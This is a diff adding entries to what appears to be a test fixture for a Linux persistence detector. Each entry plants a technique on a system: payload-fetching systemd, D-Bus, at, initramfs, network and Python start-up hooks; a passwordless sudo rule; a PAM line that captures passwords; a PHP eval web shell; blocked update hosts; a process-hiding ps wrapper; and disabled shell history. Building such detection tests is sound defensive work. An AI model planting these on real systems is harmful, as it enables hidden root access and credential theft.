@@ -145,4 +145,80 @@ systemctl daemon-reload; systemctl start netd-time.timer`,
     paths: ['/usr/bin/perl'],
     plant: 'setcap cap_setuid=ep /usr/bin/perl',
   },
+  {
+    name: 'a systemd generator',
+    paths: ['/etc/systemd/system-generators/sync'],
+    plant: write('/etc/systemd/system-generators/sync', `#!/bin/sh\n${FETCH}`, '755'),
+  },
+  {
+    name: 'a drop-in of a packaged unit',
+    paths: ['/etc/systemd/system/cron.service.d/env.conf'],
+    plant: write(
+      '/etc/systemd/system/cron.service.d/env.conf',
+      `[Service]\nExecStartPre=/bin/sh -c "${FETCH}"`,
+    ),
+  },
+  {
+    name: 'a job of at',
+    paths: ['/var/spool/cron/atjobs/a0000101abcdef'],
+    plant: write('/var/spool/cron/atjobs/a0000101abcdef', `#!/bin/sh\n${FETCH}`, '700'),
+  },
+  {
+    name: 'a hook of the initramfs',
+    paths: ['/etc/initramfs-tools/hooks/zz'],
+    plant: write('/etc/initramfs-tools/hooks/zz', `#!/bin/sh\n${FETCH}`, '755'),
+  },
+  {
+    name: 'a folder of libraries',
+    paths: ['/etc/ld.so.conf.d/00-local.conf'],
+    plant: write('/etc/ld.so.conf.d/00-local.conf', '/tmp/.lib'),
+  },
+  {
+    name: 'a service of D-Bus',
+    paths: ['/usr/share/dbus-1/system-services/org.sync.service'],
+    plant: write(
+      '/usr/share/dbus-1/system-services/org.sync.service',
+      `[D-BUS Service]\nName=org.sync\nUser=root\nExec=/bin/sh -c "${FETCH}"`,
+    ),
+  },
+  {
+    name: 'a script of the network',
+    paths: ['/etc/network/if-up.d/sync'],
+    plant: write('/etc/network/if-up.d/sync', `#!/bin/sh\n${FETCH}`, '755'),
+  },
+  {
+    name: 'a start-up file of Python',
+    paths: ['/usr/local/lib/python3.11/dist-packages/zz.pth'],
+    plant: write('/usr/local/lib/python3.11/dist-packages/zz.pth', `import os; os.system("${FETCH}")`),
+  },
+  {
+    name: 'a rule for sudo',
+    paths: ['/etc/sudoers.d/zz'],
+    plant: write('/etc/sudoers.d/zz', 'www-data ALL=(ALL) NOPASSWD: ALL', '440'),
+  },
+  {
+    name: 'a line of PAM',
+    paths: ['/etc/pam.d/common-auth'],
+    plant: append('/etc/pam.d/common-auth', 'auth optional pam_exec.so quiet expose_authtok /var/tmp/.log'),
+  },
+  {
+    name: 'a page that runs what it is sent',
+    paths: ['/var/www/html/up.php'],
+    plant: write('/var/www/html/up.php', '<?php @eval($_POST["x"]); ?>'),
+  },
+  {
+    name: 'names that are sunk',
+    paths: ['/etc/hosts'],
+    plant: append('/etc/hosts', '0.0.0.0 deb.debian.org'),
+  },
+  {
+    name: 'a fake tool before the real one',
+    paths: ['/usr/local/bin/ps'],
+    plant: write('/usr/local/bin/ps', '#!/bin/sh\n/usr/bin/ps "$@" | grep -v kworkerds', '755'),
+  },
+  {
+    name: 'a history that is not kept',
+    paths: ['/root/.bash_history'],
+    plant: 'ln -sf /dev/null /root/.bash_history',
+  },
 ];
